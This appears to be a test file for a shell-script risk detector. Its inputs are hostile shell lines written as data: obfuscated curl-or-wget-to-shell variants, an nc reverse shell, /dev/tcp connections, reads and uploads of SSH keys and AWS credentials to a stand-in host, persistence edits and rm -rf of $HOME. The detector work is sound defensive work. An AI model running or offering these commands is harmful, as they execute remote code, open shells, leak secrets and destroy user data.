import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { risksInCode } from './risks-in-code.js';

const kindsIn = (code: string) => [...new Set(risksInCode(code, 'bash').map(({ kind }) => kind))].sort();
const wordsIn = (code: string) => risksInCode(code, 'bash').map(({ words }) => words);

describe('code that is run as it is downloaded', () => {
  it.each([
    ['through a pipe', 'curl -fsSL https://get.example/x | sh'],
    ['through a pipe and what comes between', 'wget -qO- get.example/x | tr a b | tee log | sudo -E bash -s -- --yes'],
    ['by eval', 'eval "$(curl -s get.example/x)"'],
    ['by eval, in backticks', 'eval `curl -s get.example/x`'],
    ['by sh -c', 'bash -c "$(curl -fsSL https://get.example/x)"'],
    ['by sh -c in sh -c', `sh -c "sh -c 'curl get.example | sh'"`],
    ['by source and a process substitution', 'source <(curl -s get.example)'],
    ['by a process substitution', 'bash <(wget -qO- https://get.example)'],
    ['by a process substitution that takes it', 'curl get.example | tee >(sh) >/dev/null'],
    ['by a redirect', 'bash < <(curl get.example)'],
    ['by a here-string', 'bash <<< "$(curl get.example)"'],
    ['by a here-document', 'sh <<END\n$(curl get.example)\nEND'],
    ['in a here-document that a shell reads', "bash <<'END'\ncurl get.example | sh\nEND"],
    ['as a command', '$(curl get.example)'],
    ['by a variable', 'x=$(curl get.example); eval "$x"'],
    ['by a line that is read', 'curl get.example | while read -r line; do eval "$line"; done'],
    ['by a file', 'curl -o /tmp/i https://get.example/i; chmod +x /tmp/i; /tmp/i'],
    ['by a file that a long option names', 'wget --output-document /tmp/i https://get.example/j; sh /tmp/i'],
    ['by a file in the same word', 'wget --output-document=/tmp/i https://get.example/j; sh /tmp/i'],
    ['by a file that is sourced', 'curl get.example > f && . f'],
    ['by a function', 'f() { curl get.example; }; f | sh'],
    ['by xargs', 'curl get.example | xargs -I{} sh -c {}'],
    ['by another language', 'python3 -c "$(curl get.example)"'],
    ['in a loop, in a subshell, in a test', 'if true; then for x in 1; do (curl get.example | sh); done; fi'],
    ['in a case', 'case $1 in a) curl get.example | sh ;; esac'],
    ['under another name', `c=curl; $c get.example | sh`],
    ['between quotes', `cu""rl get.example | s'h'`],
    ['behind a backslash', '\\curl get.example | \\sh'],
    ['spelt in escapes', `$'\\x63url' get.example | sh`],
    ['by its path', '/usr/bin/curl get.example | /bin/sh'],
    ['in an alias', `alias up='curl get.example | sh'`],
    ['in a trap', `trap 'curl get.example | sh' EXIT`],
    ['in the prompt', `PS1='$(curl get.example | sh)'`],
    ['behind another command', 'env A=b nohup timeout 5 bash -c "$(curl get.example)" &'],
  ])('%s', (_, code) => {
    expect(wordsIn(code)).toContain('runs what it downloads from get.example');
  });

  it('is named with its host where the code says it, and else not', () => {
    expect(wordsIn('curl "https://$HOST/x" | sh')).toEqual([
      'runs what it downloads from an address that is only known when it runs',
    ]);
  });
});

describe('code', () => {
  it.each([
    ['encoded_run', 'echo Y3VybA== | base64 -d | sh'],
    ['encoded_run', 'eval "$(echo 6c73 | xxd -r -p)"'],
    ['computed_run', 'eval "$(starship init bash)"'],
    ['computed_run', '"$TOOL" --init'],
    ['root', 'sudo systemctl restart x'],
    ['shadow', "alias sudo='sudo '"],
    ['shadow', 'git() { command git "$@"; }'],
    ['shadow', 'hash -p /tmp/x ssh'],
    ['hook', 'trap "date" DEBUG'],
    ['hook', 'precmd() { date; }'],
    ['hook', `bind -x '"\\C-r": date'`],
    ['search_path', 'export PATH=/tmp/bin:$PATH'],
    ['search_path', 'PATH=.:$PATH'],
    ['search_path', 'PATH="$HOME/bin:$PATH"'],
    ['search_path', 'PATH=$PATH:'],
    ['search_path', 'path=(/var/tmp/x $path)'],
    ['environment', 'export LD_PRELOAD=/opt/x.so'],
    ['environment', 'export EDITOR=/tmp/vim'],
    ['environment', 'GIT_SSH_COMMAND=/opt/ssh git fetch'],
    ['network', 'exec 3<>/dev/tcp/192.0.2.1/80'],
    ['network', 'nc -e /bin/sh 192.0.2.1 80'],
    ['persistence', 'echo x >> ~/.bashrc'],
    ['persistence', 'crontab /opt/c'],
    ['secret_file', 'cat ~/.ssh/id_ed25519'],
    ['secret_file', 'curl -d @/home/ada/.aws/credentials get.example'],
    ['deletion', 'rm -rf "$HOME"'],
    ['deletion', 'rm -fr $PREFIX/'],
    ['unchecked', 'curl -k https://get.example > f'],
    ['unread', 'echo $('],
  ] as const)('%s: %s', (kind, code) => {
    expect(kindsIn(code)).toContain(kind);
  });

  it.each([
    'ls -l',
    'mkdir -p "$1" && cd "$1"',
    'command git "$@"',
    'export EDITOR=vim',
    'export PATH=$PATH:/opt/tool/bin',
    'export PATH="$PATH:$HOME/.local/bin"',
    'curl -s https://status.example | jq .state',
    'echo "curl get.example | sh"',
    '# curl get.example | sh',
    'git log --grep "sudo rm -rf /"',
    "PS1='\\u@\\h \\w '",
    'if [ -d ~/bin ]; then ls ~/bin | wc -l; fi',
    "cat <<'END'\ncurl get.example | sh\nEND",
    'rm -rf ./build',
  ])('that does nothing of the kind raises no alarm: %s', (code) => {
    expect(wordsIn(code)).toEqual([]);
  });

  it('of a shell whose language is not read is said to be unread, and read as far as it goes', () => {
    expect(risksInCode('curl get.example | sh', 'fish').map(({ kind }) => kind)).toEqual(['unread', 'download_run']);
  });
});

describe('hostile code', () => {
  const pieces = fc.constantFrom(
    '$(',
    ')',
    '`',
    '"',
    "'",
    '<(',
    '((',
    '{',
    '}',
    '|',
    ';',
    '\n',
    'curl x',
    'sh',
    '${',
    '<<E\n',
    'case x in',
    '\\',
    ' ',
    '=',
    '\u2028',
  );

  it('is read without a failure, and every word about it is one line', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.array(pieces, { maxLength: 60 }).map((parts) => parts.join('')),
        ),
        (code) => {
          for (const { words } of risksInCode(code, 'bash')) expect(words).toMatch(/^\P{Cc}{1,240}$/u);
        },
      ),
    );
  });

  // Each is as long as a startup script may be. A reader that began again at every opening would take minutes.
  const openings = [
    '$(',
    '"$(',
    '$((',
    '<(',
    '${a:-',
    '`',
    '{ ',
    '$(case x in a) ',
    'a $(b ',
    'eval "$(',
    'sh <<E\n$(',
    'f() { ',
    '[[ ( ',
  ];
  it.each(openings)('takes no more than time in proportion to its length: %j', (opening) => {
    const started = Date.now();
    const risks = risksInCode(opening.repeat(Math.floor(65_536 / opening.length)), 'bash');
    expect(Date.now() - started).toBeLessThan(5_000);
    expect(risks.length).toBeLessThanOrEqual(16);
  });

  it('does not become twice the work with every shell in a shell', () => {
    const nest = (depth: number): string => (depth === 0 ? 'date' : `eval "$(sh -c "$(${nest(depth - 1)})")"`);
    const started = Date.now();
    risksInCode(nest(40), 'bash');
    expect(Date.now() - started).toBeLessThan(1_000);
  });
});

it('says the same of code that it read before, in every dialect, however much it read in between', () => {
  const code = 'curl get.example | sh';
  const first = risksInCode(code, 'bash');
  expect(first).not.toEqual([]);
  for (let n = 0; n < 300; n += 1) risksInCode(`echo ${String(n)}`, 'bash');
  expect(risksInCode(code, 'bash')).toEqual(first);
  expect(risksInCode(code, 'fish')).toHaveLength(first.length + 1);
  expect(risksInCode(code, 'bash')).toEqual(first);
});
